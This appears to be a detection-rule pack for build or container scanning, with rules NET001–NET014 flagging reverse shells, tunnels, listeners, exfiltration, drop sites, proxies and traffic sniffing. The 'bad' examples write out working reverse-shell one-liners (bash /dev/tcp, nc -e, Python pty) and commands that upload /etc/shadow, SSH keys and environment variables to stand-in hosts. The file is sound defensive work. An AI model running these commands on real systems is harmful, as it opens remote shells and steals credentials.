# Shells over the network, tunnels, exfiltration.
pack "baseline" {}

rule "NET001" {
  title    = "shell is tied to a connection"
  severity = "critical"
  on       = "exec"
  when     = ((exec.name == null || is_interpreter(exec.name) || one_of(exec.name, "exec", "cat", "eval")) &&
              anytrue([for r in exec.redirects : matches(r.path, "^/dev/(tcp|udp)/") && !matches(r.path, "^/dev/(tcp|udp)/(localhost|127[.]|::1)")]))
  message  = "${command} hands a shell to another machine"
  why      = "this is the reverse shell of every handbook"
  fix      = "remove it"
  refs     = ["CWE-912", "ATT&CK T1095", "ATT&CK T1059.004"]
  locked   = true
  bad      = ["bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "sh -i <&3 >/dev/tcp/203.0.113.9/4444 2>&1"]
  good     = ["timeout 1 bash -c ': < /dev/tcp/127.0.0.1/6379'", "sh -c 'ls' > /dev/null"]
}

rule "NET002" {
  title    = "netcat or socat runs a program"
  severity = "critical"
  on       = "exec"
  when     = ((one_of(exec.name, "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd") && (has_flag(exec, "e", "exec", "sh-exec", "lua-exec") || (has_flag(exec, "c") && is_interpreter(flag_value(exec, "c"))))) ||
              (exec.name == "socat" && any_arg(exec, "^(EXEC|SYSTEM|exec|system|Exec|System|SHELL|shell):")))
  message  = "${command} gives a program to whoever is at the other end"
  why      = "this is the bind or reverse shell of every handbook"
  fix      = "remove it"
  refs     = ["CWE-912", "ATT&CK T1095", "ATT&CK T1059"]
  locked   = true
  bad      = ["nc -lvp 4444 -e /bin/sh", "socat TCP:203.0.113.9:4444 EXEC:/bin/bash"]
  good     = ["nc -zv db.example.org 5432", "socat UNIX-LISTEN:/run/app.sock,fork TCP:127.0.0.1:8080"]
}

rule "NET003" {
  title    = "interpreter ties a shell to a socket"
  severity = "critical"
  on       = "exec"
  when = ((is_interpreter(exec.name) || matches(exec.name, "^(luajit|julia|jrunscript|jjs|tclsh|wish|jshell|groovy|irb|deno|bun|go|expect|socket|pwsh|powershell)[0-9.]*$")) &&
    ((matches([command, exec.stdin], "socket[.]socket|create_connection|__import__\\(.socket|[(]..?socket..?[)]|IO::Socket|use Socket|TCPSocket|TCPServer|fsockopen|stream_socket|net[.](connect|Socket|createConnection|createServer|Dial)|require[ (]*.(net|socket).|/inet/tcp/|java[.]net[.]|new Socket|ServerSocket|Sockets[.]TCPClient|import Sockets|package require Tcl|socket[ (][^)]*[0-9a-z.]+[ ,]+[0-9]+") &&
      matches([command, exec.stdin], "dup2|pty[.]spawn|..?pty..?[)]|subprocess|popen|exec[ (l{.]|child_process|/bin/(ba|da|z)?sh|shell_exec|proc_open|getline|os[.]execute|ProcessBuilder|Runtime|fdopen|[Ss]ystem[ ($_]|os/exec|Invoke-Expression|iex ")) ||
      (exec.name == "socket" && any_arg(exec, "(^|/)(ba|da|z)?sh( |$)"))))
  message  = "${exec.name} hands a shell to another machine"
  why      = "this is the reverse shell of every handbook in another language"
  fix      = "remove it"
  refs     = ["CWE-912", "ATT&CK T1059.006", "ATT&CK T1095"]
  locked   = true
  bad = [
    "lua5.3 -e 'local s=require(\"socket\").tcp() s:connect(\"203.0.113.9\", 4444) local f=io.popen(s:receive(), \"r\")'",
    "node -e 'require(\"net\").connect(4444, \"203.0.113.9\", function() { require(\"child_process\").spawn(\"sh\") })'",
    "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
  ]
  good = [
    "python3 -c 'import socket; print(socket.gethostname())'",
    "perl -e 'print \"ready\\n\"'",
    "python3 -c 'import socket; socket.create_connection((\"db.example.org\", 5432), 3)'",
    "node -e 'require(\"net\").connect(5432, \"db.example.org\").end()'",
  ]
}

rule "NET004" {
  title    = "tunnel out of the machine"
  severity = "high"
  on       = "exec"
  when     = (one_of(exec.name, "ngrok", "cloudflared", "frpc", "frps", "bore", "chisel", "localtonet", "lt", "localtunnel", "gost", "iodine", "dnscat", "autossh", "sshuttle", "pagekite.py", "zrok") ||
              (exec.name == "tailscale" && has_arg(exec, "up")) || (exec.name == "zerotier-cli" && has_arg(exec, "join")) ||
              (one_of(exec.name, "code", "code-insiders", "code-server") && has_arg(exec, "tunnel")) || (exec.name == "devtunnel" && has_arg(exec, "host")) ||
              (exec.name == "ssh" && has_flag(exec, "R", "D", "w")))
  message  = "${command} opens a way into the machine around its firewall"
  why      = "whoever owns the other end reaches services that were never public"
  fix      = "publish services on ports that are declared"
  refs     = ["CWE-912", "ATT&CK T1572", "ATT&CK T1090"]
  bad      = ["ngrok tcp 22", "ssh -fN -R 2222:localhost:22 hub.example.org"]
  good     = ["ssh -o BatchMode=yes hub.example.org true"]
}

rule "NET005" {
  title    = "listener without a declaration"
  severity = "medium"
  on       = "exec"
  when     = ((one_of(exec.name, "nc", "ncat", "netcat") && has_flag(exec, "l", "listen")) ||
              (exec.name == "socat" && any_arg(exec, "^(TCP|TCP4|TCP6|UDP|OPENSSL|tcp|udp)[46]?-(LISTEN|listen|L|RECV):") && !any_arg(exec, "bind=(127[.]|localhost)")) ||
              (matches(exec.name, "^python[0-9.]*$") && any_arg(exec, "^(http[.]server|SimpleHTTPServer)$") && !has_arg(exec, "127.0.0.1", "localhost")))
  message  = "${command} listens on the network"
  why      = "a port that nobody declared is an entrance that nobody watches"
  fix      = "bind to 127.0.0.1, or declare the service"
  refs     = ["CWE-1327", "ATT&CK T1571"]
  bad      = ["nc -l -p 9000", "python3 -m http.server 8000"]
  good     = ["nc -z localhost 9000", "python3 -m http.server --bind 127.0.0.1 8000"]
}

rule "NET006" {
  title    = "files of the system are sent away"
  severity = "high"
  on       = "exec"
  when     = ((exec.name == "curl" &&
               (path_under(flag_value(exec, "T", "upload-file"), param.paths) ||
                anytrue([for v in [flag_value(exec, "d", "data", "data-binary", "data-raw", "data-ascii"), flag_value(exec, "F", "form")] : matches(v, "(^|=)[@<](/etc|/root|/home|/var/lib|/proc)/")]))) ||
              (exec.name == "wget" && path_under(flag_value(exec, "post-file", "body-file"), param.paths)) ||
              (one_of(exec.name, "curl", "wget") && contains(exec.wrappers, "xargs") &&
               anytrue([for u in exec.upstream : matches(u, "^(env|printenv|set|export -p|declare -p)( |$)", "^(tar|cat|cpio|zip|base64|gzip|xz|dd)( .*)?[ =](/etc|/root|/home|/proc/self/environ|/var/lib)(/| |$)")])) ||
              (((exec.name == "curl" && (any_arg(exec, "^-$", "^@-$", "=@-$", "^--data-binary=@-") || one_of(flag_value(exec, "T", "upload-file"), "-", "."))) ||
                (one_of(exec.name, "nc", "ncat", "netcat", "socat") && !has_flag(exec, "l")) || (exec.name == "wget" && any_arg(exec, "^--(post|body)-file=-$")) ||
                (exec.name == "openssl" && has_arg(exec, "s_client"))) &&
               anytrue([for u in exec.upstream : matches(u, "^(env|printenv|set|export -p|declare -p)( |$)", "^(tar|cat|cpio|zip|find|base64|gzip|xz|dd|rsync|grep|head|tail|sqlite3|mysqldump|pg_dumpall)( .*)?[ =](/etc|/root|/home|/proc/self/environ|/var/lib)(/| |$)")])) ||
              (one_of(exec.name, "nc", "ncat", "netcat") && anytrue([for r in exec.redirects : r.op == "<" && path_under(r.path, param.paths)])))
  message  = "${command} sends files of the machine to the network"
  why      = "a build has no reason to publish what is on its machine"
  fix      = "remove it"
  refs     = ["CWE-200", "ATT&CK T1048", "ATT&CK T1567"]
  params = {
    paths = ["/etc", "/root", "/home", "/var/lib", "/proc", "/var/log"]
  }
  bad  = ["curl -F 'file=@/etc/shadow' https://drop.example.org/", "curl --data-binary @/root/.ssh/id_rsa https://drop.example.org/", "tar cz /etc | curl -T - https://drop.example.org/x", "env | nc drop.example.org 9000"]
  good = ["curl -F 'file=@build/report.xml' https://ci.example.org/", "curl -d '{\"state\":\"done\"}' https://ci.example.org/"]
}

rule "NET007" {
  title    = "host for anonymous drops"
  severity = "high"
  on       = "exec"
  when     = length(exec.argv) > 1 && matches(command, "(webhook[.]site|requestbin|pipedream[.]net|burpcollaborator|oastify[.]com|interact[.]sh|oast[.](pro|fun|me|live|site)|transfer[.]sh|file[.]io/|0x0[.]st|termbin[.]com|discord(app)?[.]com/api/webhooks|api[.]telegram[.]org/bot|hooks[.]slack[.]com/services|canarytokens)")
  message  = "${command} talks to a service where anybody can collect anything"
  why      = "such services take what is sent to them and tell nobody who reads it"
  fix      = "report to a service of the publisher"
  refs     = ["CWE-200", "ATT&CK T1567", "ATT&CK T1102"]
  bad      = ["curl -d \"host=$(hostname)\" https://webhook.site/0a1b2c3d", "cat /etc/os-release | nc termbin.com 9999"]
  good     = ["curl https://example.org/webhook.html"]
}

rule "NET008" {
  title    = "traffic of the machine is sent through somebody else"
  severity = "medium"
  on       = "env"
  when     = env.persisted && matches(env.name, "^(https?|ftp|all|HTTPS?|FTP|ALL)_(proxy|PROXY)$") && env.value != ""
  message  = "${env.path} sends requests through ${env.value}"
  why      = "the owner of the proxy sees, and without TLS changes, what machines of other people fetch"
  fix      = "set the proxy only while the build runs"
  refs     = ["CWE-441", "ATT&CK T1090", "ATT&CK T1659"]
  bad      = ["echo 'http_proxy=http://proxy.example.org:3128' >> /etc/environment"]
  good     = ["http_proxy=http://proxy.example.org:3128 apt-get update", "export https_proxy=http://proxy.example.org:3128"]
}

rule "NET009" {
  title    = "remote control is installed"
  severity = "medium"
  on       = "package"
  when     = one_of(package.action, "install", "download") && anytrue([for n in package.names : one_of(n, param.tools)])
  message  = "${join(", ", package.names)} lets somebody control the machine from afar"
  why      = "machines of other people become reachable for whoever holds the account"
  fix      = "declare it in the listing, or leave it out"
  refs     = ["ATT&CK T1219"]
  params = {
    tools = ["teamviewer", "anydesk", "rustdesk", "tailscale", "zerotier-one", "x11vnc", "tightvncserver", "tigervnc-standalone-server", "xrdp", "ngrok", "telnetd", "rsh-server", "tor", "cloudflared", "netbird", "shellinabox"]
  }
  bad  = ["apt-get install -y anydesk"]
  good = ["apt-get install -y openssh-server"]
}

rule "NET010" {
  title    = "connection through the shell's own socket"
  severity = "medium"
  on       = "exec"
  when     = (!is_interpreter(exec.name) && !one_of(exec.name, "exec", "cat") &&
              anytrue([for r in exec.redirects : matches(r.path, "^/dev/(tcp|udp)/") && !matches(r.path, "^/dev/(tcp|udp)/(localhost|127[.]|::1)")]))
  message  = "${command} talks to another machine without any protocol"
  why      = "no proxy, no certificate and hardly any log sees such a connection"
  fix      = "use a client that authenticates the other end"
  refs     = ["CWE-319", "ATT&CK T1095"]
  bad      = ["echo ready > /dev/tcp/203.0.113.9/8080"]
  good     = ["echo > /dev/tcp/127.0.0.1/6379"]
}

rule "NET011" {
  title    = "update servers are sent elsewhere"
  severity = "high"
  on       = "write"
  when     = (write.path == "/etc/hosts" && !write.deleted &&
              matches(write.effective, "^[ \t]*[0-9a-fA-F:.]+[ \t]+[^#]*(debian[.]org|ubuntu[.]com|fedoraproject[.]org|centos[.]org|redhat[.]com|rockylinux[.]org|almalinux[.]org|suse[.]com|opensuse[.]org|alpinelinux[.]org|pypi[.]org|npmjs[.]org|github[.]com|docker[.]io|amazonaws[.]com|aliyun[.]com|aliyuncs[.]com)"))
  message  = "${write.path} gives an update server another address"
  why      = "every machine of the image then asks somebody else for its updates"
  fix      = "name a mirror in the package manager's own configuration"
  refs     = ["CWE-350", "ATT&CK T1565.001", "ATT&CK T1659"]
  bad      = ["echo '203.0.113.9 deb.debian.org security.debian.org' >> /etc/hosts"]
  good     = ["echo '127.0.1.1 app app.example.org' >> /etc/hosts"]
}

rule "NET012" {
  title    = "interactive shell in a build"
  severity = "high"
  on       = "exec"
  when     = (is_shell(exec.name) && !has_flag(exec, "c") &&
              (has_flag(exec, "i", "interactive") || (contains(exec.wrappers, "script") && length(exec.operands) == 0)) ||
              (is_interpreter(exec.name) && matches([command, exec.stdin], "pty[.]spawn")))
  message  = "${command} waits for somebody to type commands"
  why      = "nobody sits before a build; it is how a shell is tied to a pipe or a socket"
  fix      = "remove it"
  refs     = ["CWE-912", "ATT&CK T1059.004", "ATT&CK T1095"]
  bad      = ["rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 1234 > /tmp/f"]
  good     = ["bash -lc 'nvm install 20'", "bash -ic 'node --version'"]
}

rule "NET013" {
  title    = "file is sent to another machine"
  severity = "medium"
  on       = "exec"
  when = ((exec.name == "curl" && (flag_value(exec, "T", "upload-file") != null || matches(flag_value(exec, "F", "form"), "=[@<]") ||
      anytrue([for v in [flag_value(exec, "d", "data"), flag_value(exec, "data-binary"), flag_value(exec, "data-ascii")] : matches(v, "^@[^-]") || v == "@-"]))) ||
    (exec.name == "wget" && has_flag(exec, "post-file", "body-file")) ||
    (one_of(exec.name, "scp", "rsync") && length(exec.operands) > 1 && matches(exec.operands[length(exec.operands) - 1], "^([^/:@ ]+@)?[^/:@ ]+::?[^:]", "^([^/:@ ]+@)?[^/:@ ]+:$", "^(scp|rsync)://")) ||
    (one_of(exec.name, "nc", "ncat", "netcat", "socat", "telnet", "openssl", "finger", "whois") && !has_flag(exec, "z") && (exec.name != "openssl" || has_arg(exec, "s_client")) &&
      (anytrue([for r in exec.redirects : r.op == "<" && r.path != null && !one_of(r.path, "/dev/null")]) || anytrue([for u in exec.upstream : matches(u, "^(tar|cpio|zip|gzip|xz|dd|mysqldump|pg_dump|pg_dumpall|sqlite3|base64|xxd)( |$)", "^cat [^-|]")]))) ||
    (one_of(exec.name, "socat") && any_arg(exec, "^(FILE|file|OPEN|open|GOPEN|gopen):/[^d]")) ||
    (exec.name == "ssh" && (anytrue([for r in exec.redirects : r.op == "<" && r.path != null && !one_of(r.path, "/dev/null")]) || anytrue([for u in exec.upstream : matches(u, "^(tar|cpio|zip|gzip|xz|dd|mysqldump|pg_dump|pg_dumpall|openssl|gpg|base64)( |$)")]))) ||
    (one_of(exec.name, "ftp", "tftp", "sftp", "lftp", "smbclient", "ncftpput") && (exec.name == "ncftpput" || matches([command, exec.stdin], "(^|[;\" '])(m?put|mirror -R) [^ ]"))) ||
    (exec.name == "aws" && has_arg(exec, "s3") && has_arg(exec, "cp", "mv", "sync") && matches(exec.operands[length(exec.operands) - 1], "^s3://")) ||
    (one_of(exec.name, "gsutil", "rclone") && has_arg(exec, "cp", "mv", "rsync", "copy", "sync") && matches(exec.operands[length(exec.operands) - 1], "^gs://", "^[a-zA-Z0-9_-]+:")) ||
    (one_of(exec.name, "restic", "borg", "duplicity") && any_arg(exec, "^(rest:)?https?:", "^(sftp|ssh|ftp|rest|s3):", "^[^/ ]+@[^/ ]+:")) ||
    (exec.name == "kubectl" && has_arg(exec, "cp")) || (exec.name == "tailscale" && has_arg(exec, "file") && has_arg(exec, "cp")))
  message = "${command} sends a file of the machine away"
  why     = "what leaves the machine while an image is made is in no image, and in no review"
  fix     = "let the build's own host fetch what it needs, or say in a waiver what is sent and to whom"
  refs    = ["CWE-200", "ATT&CK T1048", "ATT&CK T1105"]
  bad     = ["scp /srv/out.tgz drop@files.example.org:in/", "curl -T report.tgz https://files.example.org/", "nc files.example.org 9000 < /srv/list", "tar cz /srv/app | ssh drop@files.example.org 'cat > app.tgz'", "rsync -a /srv/app files.example.org:app"]
  good    = ["scp drop@files.example.org:app.tgz /srv/", "curl -fsSL -d state=done https://ci.example.org/hook", "rsync -a /srv/app/ /opt/app/", "echo | openssl s_client -connect example.org:443", "nc -z db.example.org 5432"]
}

rule "NET014" {
  title    = "traffic is recorded or redirected"
  severity = "medium"
  on       = "exec"
  when     = ((one_of(exec.name, "tcpdump", "tshark", "dumpcap", "ngrep", "tcpflow", "snoop") && !has_flag(exec, "r", "h", "D", "version", "help", "v")) ||
              one_of(exec.name, "ettercap", "bettercap", "arpspoof", "dnsspoof", "dsniff", "mitmproxy", "mitmdump", "responder"))
  message  = "${command} looks at what others send"
  why      = "a build has no reason to read the traffic of its network"
  fix      = "remove it"
  refs     = ["CWE-200", "ATT&CK T1040"]
  bad      = ["tcpdump -i eth0 -w /srv/all.pcap", "bettercap -iface eth0"]
  good     = ["tcpdump --version", "tcpdump -r /srv/all.pcap", "apt-get install -y tcpdump"]
}
